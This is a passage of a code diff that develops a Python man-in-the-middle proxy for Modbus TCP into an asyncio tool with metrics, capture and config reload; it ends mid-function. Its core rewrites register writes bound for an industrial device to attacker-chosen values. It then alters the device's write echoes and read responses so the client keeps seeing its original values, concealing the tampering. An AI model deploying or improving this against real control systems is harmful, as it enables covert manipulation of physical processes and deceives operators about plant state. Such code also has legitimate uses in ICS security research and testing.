@@ -1,12 +1,49 @@
 # !/usr/bin/env python3
+import argparse
+import asyncio
+import itertools
+import os
+import signal
 import socket
 import struct
-import threading
-from datetime import datetime
-from collections import defaultdict
+import sys
+import time
+from collections import defaultdict, deque
 
+from mitm_capture import DIR_CLIENT, DIR_UPSTREAM, CaptureWriter
+from mitm_config import load_config, parse_port_range
+from mitm_image import ProcessImage
+from mitm_log import DEBUG, LEVELS, ProxyLogger
+from mitm_metrics import ProxyMetrics, serve_http, write_stats_periodically, write_text_file
+from mitm_profile import start_window
+from mitm_supervisor import Supervisor
+from mitm_transport import (HAVE_QUICKACK, apply_options, quick_ack, send_vectored, socket_options,
+                            wait_readable, wait_writable)
+from mitm_upstream import SourcePortPool, connect_upstream
+
+# Defaults, overridden from the config file and command line
+UPSTREAM_HOST = '127.0.0.1'
 MODBUS_TCP_PORT = 502
+LISTEN_HOST = '127.0.0.1'
 MITM_PORT = 2502  # Our proxy port
+SOURCE_PORTS = range(25002, 25010)  # Upstream source ports, excluded from redirection in mitm_iptables.sh
+DRAIN_TIMEOUT = 30.0  # Seconds a stopping worker waits for open sessions to finish
+CONNECT_TIMEOUT = 5.0  # Seconds to establish the upstream connection
+READ_TIMEOUT = 10.0  # Seconds a request may wait for its response, the session closes if upstream sent nothing
+IDLE_TIMEOUT = 300.0  # Seconds without traffic in either direction before the session is closed (0 = never)
+REAP_INTERVAL = 1.0  # Seconds between timeout checks
+USE_SPLICE = False  # Splice sessions kernel-side when no override, capture or debug log needs the frames
+STAGE_TIMING = False  # Time each forwarding stage per function code, see modbus_mitm_stage_seconds
+PROFILE_SECONDS = 10.0  # Length of a SIGUSR1 (cProfile) or SIGUSR2 (tracemalloc) profiling window
+LISTEN_BACKLOG = 128  # Pending connections queued by the kernel
+RECV_BUFFER_SIZE = 16384  # Preallocated receive buffer per connection direction
+SPLICE_CHUNK_SIZE = 65536  # Bytes moved per splice call
+MAX_FRAME_SIZE = 260  # Largest Modbus TCP frame (MBAP header + PDU)
+MAX_PENDING_REQUESTS = 64  # Requests in flight upstream per client before reading pauses
+TCP_NODELAY = True  # Send small frames immediately instead of waiting for the peer's ACK (Nagle)
+TCP_QUICKACK = False  # ACK every received chunk right away instead of delaying it (Linux)
+SOCKET_SEND_BUFFER = 0  # SO_SNDBUF for client and upstream sockets, 0 = kernel default
+SOCKET_RECV_BUFFER = 0  # SO_RCVBUF for client and upstream sockets, 0 = kernel default
 
 # Modbus function codes
 FUNCTION_CODES = {
@@ -27,70 +64,198 @@ overrides = {
     0x0002: 0x1000,  # Example: override register 2 with 0xDEAD
 }
 
+# Settings changing the listening socket need new worker processes, the rest reload in place
+DEFAULT_SETTINGS = {
+    'listen_host': LISTEN_HOST,
+    'listen_port': MITM_PORT,
+    'upstream_host': UPSTREAM_HOST,
+    'upstream_port': MODBUS_TCP_PORT,
+    'workers': 1,
+    'source_ports': SOURCE_PORTS,
+    'connect_timeout': CONNECT_TIMEOUT,
+    'read_timeout': READ_TIMEOUT,
+    'idle_timeout': IDLE_TIMEOUT,
+    'tcp_nodelay': TCP_NODELAY,
+    'tcp_quickack': TCP_QUICKACK,
+    'send_buffer': SOCKET_SEND_BUFFER,
+    'recv_buffer': SOCKET_RECV_BUFFER,
+    'overrides': dict(overrides),
+}
+RESTART_KEYS = ('listen_host', 'listen_port', 'workers')
+
 # Store original client values for response modification
 client_original_values = defaultdict(dict)  # {client_addr: {register: original_value}}
 
 
-def get_timestamp():
-    """Return short timestamp string"""
-    return datetime.now().strftime("%H:%M:%S")
+# Proxy log, written from a background thread so forwarding never waits on stdout
+log = ProxyLogger()
+
+# Optional frame recorder (CaptureWriter), enabled with --capture
+capture = None
+image = None  # ProcessImage fed from upstream responses when --image is on
+
+# Frame/byte/error/rewrite counters and upstream round-trip histograms
+metrics = ProxyMetrics()
+
+connection_ids = itertools.count(1)
+
+# Upstream source ports of this process, resized on reload
+source_ports = SourcePortPool(SOURCE_PORTS)
+
+# Open sessions by connection id, checked for timeouts by reap_sessions
+active_sessions = {}
+
+# setsockopt calls for every new client and upstream socket, rebuilt by apply_settings
+transport_options = socket_options(TCP_NODELAY)
+
+
+# Precompiled big-endian layouts, read in place with unpack_from
+MBAP_HEADER = struct.Struct('>HHHBB')  # transaction, protocol, length, unit, function
+UINT16 = struct.Struct('>H')
+UINT16_PAIR = struct.Struct('>HH')  # address + quantity/value
+MASK_WRITE = struct.Struct('>HHH')  # address, AND mask, OR mask
+MULTIPLE_WRITE = struct.Struct('>HHB')  # address, quantity, byte count
+READ_WRITE = struct.Struct('>HHHHB')  # read address/quantity, write address/quantity, byte count
+REGISTER_ARRAYS = [struct.Struct(f'>{count}H') for count in range(126)]  # 125 = max registers per frame
+
+READ_FUNCTIONS = frozenset((0x01, 0x02, 0x03, 0x04))
+WRITE_FUNCTIONS = frozenset((0x05, 0x06, 0x0F, 0x10, 0x16))
+
+
+class ModbusFrame:
+    """Decoded Modbus TCP request or response, fields not carried by the function code stay None"""
+
+    __slots__ = ('raw', 'transaction_id', 'protocol_id', 'length', 'unit_id', 'function_code',
+                 'is_response', 'exception_code', 'address', 'quantity', 'value', 'byte_count',
+                 'data_offset', 'write_address', 'write_quantity', 'and_mask', 'or_mask')
+
+    def __init__(self, raw, is_response):
+        self.raw = raw
+        self.transaction_id, self.protocol_id, self.length, self.unit_id, self.function_code = \
+            MBAP_HEADER.unpack_from(raw)
+        self.is_response = is_response
+        self.exception_code = None
+        self.address = None
+        self.quantity = None
+        self.value = None
+        self.byte_count = None
+        self.data_offset = None  # where register/coil data starts in raw
+        self.write_address = None
+        self.write_quantity = None
+        self.and_mask = None
+        self.or_mask = None
+
+    @property
+    def function_name(self):
+        function_code = self.function_code & 0x7F
+        name = FUNCTION_CODES.get(function_code, f"UNKNOWN(0x{function_code:02X})")
+        return name + "_EXCEPTION" if self.function_code & 0x80 else name
+
+    @property
+    def is_read(self):
+        return self.function_code in READ_FUNCTIONS or self.function_code == 0x17
+
+    @property
+    def is_write(self):
+        return self.function_code in WRITE_FUNCTIONS or self.function_code == 0x17
+
+    def registers(self):
+        """Return register values carried by the frame as a tuple"""
+        if self.data_offset is None:
+            return ()
+        count = min(self.byte_count, len(self.raw) - self.data_offset) // 2
+        return REGISTER_ARRAYS[min(count, 125)].unpack_from(self.raw, self.data_offset)
+
+    def bits(self, count=None):
+        """Return coil/discrete input states carried by the frame as a list of 0/1"""
+        if self.data_offset is None:
+            return []
+        data = memoryview(self.raw)[self.data_offset:self.data_offset + self.byte_count]
+        if count is None:
+            count = self.quantity if self.quantity is not None else len(data) * 8
+        return [(data[i >> 3] >> (i & 7)) & 1 for i in range(min(count, len(data) * 8))]
 
 
 def parse_modbus_request(data):
     """Parse Modbus TCP request"""
-    if len(data) < 8:
+    size = len(data)
+    if size < 8:
         return None
 
-    # Modbus TCP header
-    transaction_id = struct.unpack('>H', data[0:2])[0]
-    protocol_id = struct.unpack('>H', data[2:4])[0]
-    length = struct.unpack('>H', data[4:6])[0]
-    unit_id = data[6]
-    function_code = data[7]
-
-    result = {
-        'transaction_id': transaction_id,
-        'protocol_id': protocol_id,
-        'length': length,
-        'unit_id': unit_id,
-        'function_code': function_code,
-        'function_name': FUNCTION_CODES.get(function_code, f"UNKNOWN(0x{function_code:02X})"),
-        'raw': data
-    }
+    frame = ModbusFrame(data, False)
+    function_code = frame.function_code
+
+    # READ COILS/DISCRETE INPUTS/HOLDING/INPUT REGISTERS (01-04), WRITE SINGLE COIL/REGISTER (05, 06)
+    if function_code <= 0x06 and size >= 12:
+        if function_code <= 0x04:
+            frame.address, frame.quantity = UINT16_PAIR.unpack_from(data, 8)
+        else:
+            frame.address, frame.value = UINT16_PAIR.unpack_from(data, 8)
+
+    # WRITE MULTIPLE COILS/REGISTERS (0F, 10)
+    elif (function_code == 0x0F or function_code == 0x10) and size >= 13:
+        frame.address, frame.quantity, frame.byte_count = MULTIPLE_WRITE.unpack_from(data, 8)
+        frame.data_offset = 13
+
+    # MASK WRITE REGISTER (16)
+    elif function_code == 0x16 and size >= 14:
+        frame.address, frame.and_mask, frame.or_mask = MASK_WRITE.unpack_from(data, 8)
+
+    # READ/WRITE MULTIPLE REGISTERS (17)
+    elif function_code == 0x17 and size >= 17:
+        (frame.address, frame.quantity, frame.write_address, frame.write_quantity,
+         frame.byte_count) = READ_WRITE.unpack_from(data, 8)
+        frame.data_offset = 17
 
-    # WRITE SINGLE REGISTER (06)
-    if function_code == 0x06 and len(data) >= 12:
-        address = struct.unpack('>H', data[8:10])[0]
-        value = struct.unpack('>H', data[10:12])[0]
-        result['address'] = address
-        result['value'] = value
-        result['is_write'] = True
+    return frame
 
-    # READ HOLDING REGISTERS (03)
-    elif function_code == 0x03 and len(data) >= 12:
-        address = struct.unpack('>H', data[8:10])[0]
-        quantity = struct.unpack('>H', data[10:12])[0]
-        result['address'] = address
-        result['quantity'] = quantity
-        result['is_read'] = True
 
-    return result
+def parse_modbus_response(data):
+    """Parse Modbus TCP response"""
+    size = len(data)
+    if size < 8:
+        return None
+
+    frame = ModbusFrame(data, True)
+    function_code = frame.function_code
+
+    # Exception response: function code with high bit set + exception code
+    if function_code & 0x80:
+        if size >= 9:
+            frame.exception_code = data[8]
+
+    # READ responses (01-04, 17): byte count + data
+    elif (function_code <= 0x04 or function_code == 0x17) and size >= 9:
+        frame.byte_count = data[8]
+        frame.data_offset = 9
+
+    # WRITE SINGLE COIL/REGISTER (05, 06): echo of address + value
+    elif (function_code == 0x05 or function_code == 0x06) and size >= 12:
+        frame.address, frame.value = UINT16_PAIR.unpack_from(data, 8)
+
+    # WRITE MULTIPLE COILS/REGISTERS (0F, 10): address + quantity written
+    elif (function_code == 0x0F or function_code == 0x10) and size >= 12:
+        frame.address, frame.quantity = UINT16_PAIR.unpack_from(data, 8)
+
+    # MASK WRITE REGISTER (16): echo of request
+    elif function_code == 0x16 and size >= 14:
+        frame.address, frame.and_mask, frame.or_mask = MASK_WRITE.unpack_from(data, 8)
+
+    return frame
 
 
 def build_modbus_response(request, original_value, modified_value=None):
     """Build Modbus TCP response"""
-    function_code = request['function_code']
+    function_code = request.function_code
 
     # WRITE SINGLE REGISTER response (06)
     if function_code == 0x06:
-        response = bytearray(request['raw'][:8])  # header
-        response[4:6] = struct.pack('>H', 6)  # length
-        response.extend(struct.pack('>H', request.get('address', 0)))
-
-        if modified_value is not None:
-            response.extend(struct.pack('>H', modified_value))
-        else:
-            response.extend(struct.pack('>H', original_value))
+        response = bytearray(request.raw[:8])  # header
+        UINT16.pack_into(response, 4, 6)  # length
+        response += UINT16_PAIR.pack(
+            request.address or 0,
+            modified_value if modified_value is not None else original_value
+        )
 
         return bytes(response)
 
@@ -99,11 +264,11 @@ def build_modbus_response(request, original_value, modified_value=None):
 
 def restore_read_response(data, request, client_addr):
     """Restore original values in READ HOLDING REGISTERS response"""
-    if request['function_code'] != 0x03:
+    if request.function_code != 0x03:
         return data
 
-    address = request.get('address', 0)
-    quantity = request.get('quantity', 0)
+    address = request.address or 0
+    quantity = request.quantity or 0
 
     if not data or len(data) < 9:  # Minimum length for read response
         return data
@@ -112,13 +277,12 @@ def restore_read_response(data, request, client_addr):
     if byte_count != quantity * 2:
         return data
 
-    modified = False
-    modified_data = bytearray(data)
+    modified_data = None
 
-    # Check each register in response
-    for i in range(quantity):
-        current_addr = address + i
-        if current_addr in overrides:
+    # Check each overridden register that falls inside the response
+    for current_addr in overrides:
+        i = current_addr - address
+        if 0 <= i < quantity:
             # Position in response: 9 (header) + i*2
             value_pos = 9 + (i * 2)
             if value_pos + 2 <= len(data):
@@ -126,146 +290,800 @@ def restore_read_response(data, request, client_addr):
                 original_value = client_original_values.get(client_addr, {}).get(current_addr)
                 if original_value is not None:
                     # Server returned our overridden value, need to restore original for client
-                    modified_data[value_pos:value_pos + 2] = struct.pack('>H', original_value)
-                    modified = True
-                    print(f"[{get_timestamp()}] [RESTORED] Response for register {current_addr:04X}: "
-                          f"sending back client's original value {original_value}")
+                    if modified_data is None:
+                        modified_data = bytearray(data)
+                    UINT16.pack_into(modified_data, value_pos, original_value)
+                    log.info('RESTORED', "Response for register %04X: sending back client's original value %d",
+                             current_addr, original_value)
                 # Else: server returned some value, we don't have original from client, leave as is
 
-    return bytes(modified_data) if modified else data
+    return bytes(modified_data) if modified_data is not None else data
 
 
-def handle_client(client_sock, client_addr):
-    """Handle single client connection"""
-    server_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    ports = list(range(25002, 25010))
-    bound = False
-    for i in range(32):
+def request_needs_inspection(frame, offset, size):
+    """Peek at function code and address range, True if an override may touch the request or its response"""
+    if not overrides:
+        return False
+
+    function_code = frame[offset + 7]
+    if function_code == 0x06 and size >= 12:
+        return UINT16.unpack_from(frame, offset + 8)[0] in overrides
+    if function_code == 0x03 and size >= 12:
+        address, quantity = UINT16_PAIR.unpack_from(frame, offset + 8)
+        for override in overrides:
+            if address <= override < address + quantity:
+                return True
+    return False
+
+
+class MBAPReassembler:
+    """Split a TCP byte stream into whole Modbus TCP frames using the MBAP length field.
+
+    Data is received straight into a preallocated buffer (free_space/received) and frames are
+    handed out as (start, end) spans of that buffer, valid until the next free_space call.
+    """
+
+    def __init__(self, size=RECV_BUFFER_SIZE):
+        self.buffer = bytearray(size)
+        self.view = memoryview(self.buffer)
+        self.start = 0  # first byte not yet handed out as a frame
+        self.end = 0  # end of received data
+
+    def free_space(self):
+        """Move any partial frame to the front and return writable view for recv_into"""
+        if self.start:
+            remaining = self.end - self.start
+            if remaining:
+                self.buffer[:remaining] = self.view[self.start:self.end]
+            self.start = 0
+            self.end = remaining
+        return self.view[self.end:]
+
+    def received(self, count):
+        self.end += count
+
+    def frames(self):
+        """Yield (start, end) of each complete frame in buffer"""
+        buffer = self.buffer
+        pos = self.start
+        available = self.end
+        while available - pos >= 6:
+            length = (buffer[pos + 4] << 8) | buffer[pos + 5]  # unit id + PDU
+            size = 6 + length
+            if length < 2 or size > MAX_FRAME_SIZE:
+                raise ValueError(f"Invalid MBAP length {length}")
+            if available - pos < size:
+                break
+            self.start = pos + size
+            yield pos, pos + size
+            pos += size
+
+    def feed(self, data):
+        """Append received bytes and return every frame completed by them as bytes"""
+        frames = []
+        data = memoryview(data)
+        while data:
+            space = self.free_space()
+            count = min(len(space), len(data))
+            space[:count] = data[:count]
+            self.received(count)
+            data = data[count:]
+            frames.extend(bytes(self.view[start:end]) for start, end in self.frames())
+        return frames
+
+
+async def timed_recv_into(loop, sock, buffer):
+    """Receive like loop.sock_recv_into, return (count, ns spent in the successful recv call)"""
+    while True:
+        started = time.perf_counter_ns()
         try:
-            server_sock.bind(('127.0.0.1', ports[i]))  # Fix source port
-            bound = True
-            break
-        except:
+            count = sock.recv_into(buffer)
+        except BlockingIOError:
+            await wait_readable(loop, sock)
             continue
-    if not bound:
-        raise Exception('Failed to bind to ports {}'.format(ports[i]))
-    server_sock.connect(('127.0.0.1', MODBUS_TCP_PORT))
+        return count, time.perf_counter_ns() - started
 
-    # Initialize storage for this client
-    client_original_values[client_addr] = {}
 
-    try:
+class ProxySession:
+    """Pipelined forwarding between one client and its upstream connection"""
+
+    def __init__(self, client_addr, client_sock, server_sock):
+        self.conn_id = next(connection_ids)
+        self.client_addr = client_addr
+        self.client_sock = client_sock
+        self.server_sock = server_sock
+        # {transaction_id: deque of (request or None, forwarded at perf_counter_ns, function code,
+        #                            (address, quantity) of reads for image)}, oldest first since masters reuse ids
+        self.pending = {}
+        self.outstanding = 0  # entries in pending
+        # {transaction_id: deque of given up at perf_counter_ns} for expired requests, their late answers are
+        # dropped instead of being paired with the next request that reuses the id
+        self.late = {}
+        self.stats = metrics.open_connection(self.conn_id, client_addr)
+        self.slot_free = asyncio.Event()
+        self.slot_free.set()
+        self.last_activity = self.last_response = time.perf_counter_ns()
+        self.tasks = []
+        self.close_reason = None
+        self.spliced = False  # decided once, a reload does not switch a running session to inspection
+
+    def can_splice(self):
+        """Bulk kernel-side forwarding is only possible when no frame will ever be looked at"""
+        return (USE_SPLICE and hasattr(os, 'splice') and not overrides and not capture and not image
+                and not log.enabled(DEBUG))
+
+    async def run(self):
+        """Forward both directions until either side closes"""
+        if self.can_splice():
+            self.spliced = True
+            log.info('+', "Splicing %s without inspection", self.client_addr)
+            coroutines = [self.splice(self.client_sock, self.server_sock, 'request'),
+                          self.splice(self.server_sock, self.client_sock, 'response')]
+        else:
+            coroutines = [self.forward_requests(), self.forward_responses()]
+        self.tasks = tasks = [asyncio.ensure_future(coroutine) for coroutine in coroutines]
+        requests, responses = tasks
+        try:
+            done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+            for task in done:
+                if not task.cancelled():
+                    task.result()
+
+            if requests in done and not responses.done():
+                # Client half-closed: pass EOF upstream and let outstanding responses through
+                shutdown_write(self.server_sock)
+                await asyncio.wait([responses], timeout=READ_TIMEOUT or None)
+            elif responses in done and not requests.done():
+                # Upstream closed: nothing more will be answered, pass EOF to client
+                shutdown_write(self.client_sock)
+        finally:
+            for task in tasks:
+                task.cancel()
+            await asyncio.gather(*tasks, return_exceptions=True)
+
+    def expired(self, now):
+        """Return reason if session waited too long on upstream or saw no traffic, else None"""
+        if READ_TIMEOUT and (self.pending or self.late):
+            deadline = now - READ_TIMEOUT * 1e9
+            if self.expire_requests(deadline) and self.last_response < deadline:
+                return 'upstream_timeout'  # requests go unanswered and upstream has sent nothing at all
+        if IDLE_TIMEOUT and now - self.last_activity > IDLE_TIMEOUT * 1e9:
+            return 'idle_timeout'
+        return None
+
+    def expire_requests(self, deadline):
+        """Forget requests forwarded before deadline, return how many; one unanswered unit must not stall the rest"""
+        # A late answer gets one more timeout to arrive, after that its tombstone goes too
+        for transaction_id, tombstones in list(self.late.items()):
+            while tombstones and tombstones[0] < deadline:
+                tombstones.popleft()
+            if not tombstones:
+                del self.late[transaction_id]
+
+        expired = 0
+        given_up = deadline + READ_TIMEOUT * 1e9
+        for transaction_id, queue in list(self.pending.items()):
+            while queue and queue[0][1] < deadline:
+                metrics.error('read_timeout', queue.popleft()[2], self.stats)
+                self.late.setdefault(transaction_id, deque()).append(given_up)
+                expired += 1
+            if not queue:
+                del self.pending[transaction_id]
+        if expired:
+            self.outstanding -= expired
+            self.slot_free.set()
+        return expired
+
+    def abort(self, reason):
+        """Stop forwarding, handle_client closes both sockets"""
+        self.close_reason = reason
+        for task in self.tasks:
+            task.cancel()
+
+    def track(self, transaction_id, entry):
+        """Remember a forwarded request until upstream answers it"""
+        queue = self.pending.get(transaction_id)
+        if queue is None:
+            self.pending[transaction_id] = queue = deque()
+        queue.append(entry)
+        self.outstanding += 1
+
+    def answers_expired(self, transaction_id):
+        """Consume the oldest tombstone for transaction_id, True if the response answers an expired request"""
+        tombstones = self.late.get(transaction_id)
+        if not tombstones:
+            return False
+        tombstones.popleft()
+        if not tombstones:
+            del self.late[transaction_id]
+        return True
+
+    def match(self, transaction_id):
+        """Return the oldest pending entry for transaction_id and forget it, None if nothing is pending"""
+        queue = self.pending.get(transaction_id)
+        if not queue:
+            return None
+        entry = queue.popleft()
+        if not queue:
+            del self.pending[transaction_id]
+        self.outstanding -= 1
+        return entry
+
+    async def send(self, sock, pieces):
+        """Write all pieces to sock as one vectored write, returns once the kernel has accepted every byte"""
+        if pieces:
+            await send_vectored(asyncio.get_running_loop(), sock, pieces)
+
+    def rewrite_request(self, data, request):
+        """Log request and apply register overrides, return bytes to forward"""
+        function_code = request.function_code
+        if log.enabled(DEBUG):
+            if request.quantity is not None:
+                log.debug('->', "%s addr=0x%04X count=%d", request.function_name, request.address,
+                          request.quantity, function_code=function_code)
+            elif request.value is not None:
+                log.debug('->', "%s addr=0x%04X value=%d", request.function_name, request.address,
+                          request.value, function_code=function_code)
+            else:
+                log.debug('->', "%s", request.function_name, function_code=function_code)
+
+        # WRITE SINGLE REGISTER
+        if function_code == 0x06 and request.value is not None:
+            addr = request.address
+            value = request.value
+
+            # Store original value from client
+            client_original_values[self.client_addr][addr] = value
+
+            # Check if we need to override
+            if addr in overrides:
+                modified_data = bytearray(data)
+                UINT16.pack_into(modified_data, 10, overrides[addr])
+                data = bytes(modified_data)
+
+                metrics.rewrite('override', function_code, self.stats)
+                log.info('MITM', "Overriding register %04X: %d -> %d", addr, value, overrides[addr])
+
+        return data
+
+    def rewrite_response(self, response, request):
+        """Restore client's original values in response to request"""
+        # For WRITE SINGLE REGISTER response
+        if request.function_code == 0x06:
+            address = request.address
+            if address in overrides and len(response) >= 12:
+                # Get original value from client to send back
+                original_value = client_original_values[self.client_addr].get(address)
+                if original_value is not None:
+                    # Server responded with overridden value, we need to send original back to client
+                    modified_response = build_modbus_response(
+                        request,
+                        UINT16.unpack_from(response, 10)[0],  # Server's response
+                        original_value  # Send back client's original value
+                    )
+                    if modified_response:
+                        response = modified_response
+                        metrics.rewrite('restore', 0x06, self.stats)
+                        log.info('RESTORED', "Response for register %04X: sending back client's original value %d",
+                                 address, original_value)
+
+        # For READ HOLDING REGISTERS response
+        elif request.function_code == 0x03:
+            # Restore original values in read response if needed
+            restored = restore_read_response(response, request, self.client_addr)
+            if restored is not response:
+                metrics.rewrite('restore', 0x03, self.stats)
+            response = restored
+
+        return response
+
+    async def forward_requests(self):
+        """Client -> Server"""
+        loop = asyncio.get_running_loop()
+        reassembler = MBAPReassembler()
+        buffer, view = reassembler.buffer, reassembler.view
+        timing = STAGE_TIMING
+        quickack = TCP_QUICKACK and HAVE_QUICKACK
+        while True:
+            if timing:
+                count, recv_ns = await timed_recv_into(loop, self.client_sock, reassembler.free_space())
+            else:
+                count = await loop.sock_recv_into(self.client_sock, reassembler.free_space())
+            if not count:
+                return
+            if quickack:
+                quick_ack(self.client_sock)
+            reassembler.received(count)
+
+            inspect_all = log.enabled(DEBUG)
+            self.last_activity = forwarded = time.perf_counter_ns()
+            functions = []  # function code per frame, collected for stage timing only
+            outgoing = []
+            run_start = run_end = 0  # frames forwarded untouched, sent as one slice of the buffer
+            for start, end in reassembler.frames():
+                size = end - start
+                if capture:
+                    capture.record(self.conn_id, DIR_CLIENT, view[start:end])
+
+                # Hold further requests while too many are outstanding upstream
+                if self.outstanding >= MAX_PENDING_REQUESTS:
+                    if run_end > run_start:
+                        outgoing.append(view[run_start:run_end])
+                    await self.send(self.server_sock, outgoing)
+                    outgoing = []
+                    run_start = run_end = start
+                    while self.outstanding >= MAX_PENDING_REQUESTS:
+                        self.slot_free.clear()
+                        await self.slot_free.wait()
+
+                function_code = buffer[start + 7]
+                metrics.request(self.stats, function_code, size)
+                if timing:
+                    functions.append(function_code)
+                    started = time.perf_counter_ns()
+                read_range = None
+                if image and function_code in READ_FUNCTIONS and size >= 12:
+                    read_range = UINT16_PAIR.unpack_from(buffer, start + 8)
+
+                if inspect_all or request_needs_inspection(buffer, start, size):
+                    if run_end > run_start:
+                        outgoing.append(view[run_start:run_end])
+                    run_start = run_end = end
+                    request = parse_modbus_request(bytes(view[start:end]))
+                    if timing:
+                        decoded = time.perf_counter_ns()
+                        metrics.stage('decode', function_code, decoded - started)
+                    outgoing.append(self.rewrite_request(request.raw, request))
+                    if timing:
+                        metrics.stage('rewrite', function_code, time.perf_counter_ns() - decoded)
+                    self.track(request.transaction_id, (request, forwarded, function_code, read_range))
+                else:
+                    # Pass-through: no rule can match, forward bytes as received
+                    if run_end != start:
+                        if run_end > run_start:
+                            outgoing.append(view[run_start:run_end])
+                        run_start = start
+                    run_end = end
+                    self.track((buffer[start] << 8) | buffer[start + 1], (None, forwarded, function_code, read_range))
+                    if timing:
+                        metrics.stage('decode', function_code, time.perf_counter_ns() - started)
+
+            if run_end > run_start:
+                outgoing.append(view[run_start:run_end])
+            # Send (modified or original) requests to server, waiting while its buffer is full
+            if timing:
+                started = time.perf_counter_ns()
+                await self.send(self.server_sock, outgoing)
+                metrics.stage_shared('client_recv', functions, recv_ns)
+                metrics.stage_shared('upstream_send', functions, time.perf_counter_ns() - started)
+            else:
+                await self.send(self.server_sock, outgoing)
+
+    async def forward_responses(self):
+        """Server -> Client"""
+        loop = asyncio.get_running_loop()
+        reassembler = MBAPReassembler()
+        buffer, view = reassembler.buffer, reassembler.view
+        timing = STAGE_TIMING
+        quickack = TCP_QUICKACK and HAVE_QUICKACK
         while True:
-            # Client -> Server
-            try:
-                data = client_sock.recv(1024)
-                if not data:
-                    break
-
-                # Analyze request
-                request = parse_modbus_request(data)
-                if request:
-                    timestamp = get_timestamp()
-                    func_name = request['function_name']
-
-                    # WRITE SINGLE REGISTER
-                    if request['function_code'] == 0x06:
-                        addr = request.get('address', 0)
-                        value = request.get('value', 0)
-                        print(f"[{timestamp}] [->] {func_name} addr=0x{addr:04X} value={value}")
-
-                        # Store original value from client
-                        client_original_values[client_addr][addr] = value
-
-                        # Check if we need to override
-                        if addr in overrides:
-                            modified_data = bytearray(data)
-                            modified_data[10:12] = struct.pack('>H', overrides[addr])
-                            data = bytes(modified_data)
-
-                            print(f"[{get_timestamp()}] [MITM] Overriding register {addr:04X}: "
-                                  f"{value} -> {overrides[addr]}")
-
-                    # READ HOLDING REGISTERS
-                    elif request['function_code'] == 0x03:
-                        addr = request.get('address', 0)
-                        qty = request.get('quantity', 0)
-                        print(f"[{timestamp}] [->] {func_name} addr=0x{addr:04X} count={qty}")
+            if timing:
+                count, recv_ns = await timed_recv_into(loop, self.server_sock, reassembler.free_space())
+            else:
+                count = await loop.sock_recv_into(self.server_sock, reassembler.free_space())
+            if not count:
+                return
+            if quickack:
+                quick_ack(self.server_sock)
+            reassembler.received(count)
+
+            self.last_activity = self.last_response = received = time.perf_counter_ns()
+            observed = time.time() if image else 0.0
+            functions = []
+            outgoing = []
+            run_start = run_end = 0
+            for start, end in reassembler.frames():
+                if capture:
+                    capture.record(self.conn_id, DIR_UPSTREAM, view[start:end])
+
+                # Match response to its request by transaction id
+                function_code = buffer[start + 7]
+                if timing:
+                    functions.append(function_code)
+                transaction_id = (buffer[start] << 8) | buffer[start + 1]
+                if self.late and self.answers_expired(transaction_id):
+                    # Late answer to a request given up on: the client no longer waits for it and a
+                    # rewrite is no longer possible, so drop it rather than forward device values
+                    metrics.response(self.stats, function_code, end - start)
+                    metrics.error('unmatched_response', function_code, self.stats)
+                    if run_end > run_start:
+                        outgoing.append(view[run_start:run_end])
+                    run_start = run_end = end
+                    continue
+                entry = self.match(transaction_id)
+                self.slot_free.set()
+                if entry:
+                    request, forwarded, request_function, read_range = entry
+                    metrics.response(self.stats, function_code, end - start, received - forwarded)
+                    if (function_code & 0x7F) != request_function:
+                        # Not the answer to the oldest request with this id, never rewrite on a guess
+                        metrics.error('mismatched_response', function_code, self.stats)
+                    elif function_code & 0x80:
+                        metrics.error('exception', function_code & 0x7F, self.stats)
                     else:
-                        print(f"[{timestamp}] [->] {func_name}")
+                        if image:
+                            # Record what the device reported, before restoring client values
+                            image.observe_response(buffer, start, end, read_range, observed)
+                        if request is not None:
+                            if run_end > run_start:
+                                outgoing.append(view[run_start:run_end])
+                            run_start = run_end = end
+                            if timing:
+                                started = time.perf_counter_ns()
+                                outgoing.append(self.rewrite_response(bytes(view[start:end]), request))
+                                metrics.stage('response_rewrite', function_code, time.perf_counter_ns() - started)
+                            else:
+                                outgoing.append(self.rewrite_response(bytes(view[start:end]), request))
+                            continue
+                else:
+                    metrics.response(self.stats, function_code, end - start)
+                    metrics.error('unmatched_response', function_code, self.stats)
 
-                # Send (modified or original) request to server
-                server_sock.send(data)
+                if run_end != start:
+                    if run_end > run_start:
+                        outgoing.append(view[run_start:run_end])
+                    run_start = start
+                run_end = end
 
-            except socket.error:
-                break
+            if run_end > run_start:
+                outgoing.append(view[run_start:run_end])
+            if timing:
+                started = time.perf_counter_ns()
+                await self.send(self.client_sock, outgoing)
+                metrics.stage_shared('upstream_recv', functions, recv_ns)
+                metrics.stage_shared('client_send', functions, time.perf_counter_ns() - started)
+            else:
+                await self.send(self.client_sock, outgoing)
 
-            # Server -> Client
-            try:
-                response = server_sock.recv(1024)
-                if not response:
-                    break
-
-                # Modify response based on request type
-                if request:
-                    # For WRITE SINGLE REGISTER response
-                    if request['function_code'] == 0x06:
-                        address = request.get('address', 0)
-                        if address in overrides:
-                            # Get original value from client to send back
-                            original_value = client_original_values[client_addr].get(address)
-                            if original_value is not None:
-                                # Server responded with overridden value, we need to send original back to client
-                                modified_response = build_modbus_response(
-                                    request,
-                                    struct.unpack('>H', response[10:12])[0],  # Server's response
-                                    original_value  # Send back client's original value
-                                )
-                                if modified_response:
-                                    response = modified_response
-                                    print(f"[{get_timestamp()}] [RESTORED] Response for register {address:04X}: "
-                                          f"sending back client's original value {original_value}")
-
-                    # For READ HOLDING REGISTERS response
-                    elif request['function_code'] == 0x03:
-                        # Restore original values in read response if needed
-                        response = restore_read_response(response, request, client_addr)
-
-                client_sock.send(response)
-
-            except socket.error:
-                break
+    async def splice(self, source, destination, direction):
+        """Move bytes source -> destination through a kernel pipe, never copying them into Python"""
+        loop = asyncio.get_running_loop()
+        pipe_read, pipe_write = os.pipe()
+        flags = os.SPLICE_F_MOVE | os.SPLICE_F_NONBLOCK
+        try:
+            while True:
+                await wait_readable(loop, source)
+                try:
+                    count = os.splice(source.fileno(), pipe_write, SPLICE_CHUNK_SIZE, flags=flags)
+                except BlockingIOError:
+                    continue
+                if not count:
+                    return
+                metrics.spliced(self.stats, direction, count)
+                self.last_activity = time.perf_counter_ns()
+
+                while count:
+                    try:
+                        count -= os.splice(pipe_read, destination.fileno(), count, flags=flags)
+                    except BlockingIOError:
+                        await wait_writable(loop, destination)
+        finally:
+            os.close(pipe_read)
+            os.close(pipe_write)
+
+
+def shutdown_write(sock):
+    try:
+        sock.shutdown(socket.SHUT_WR)
+    except OSError:
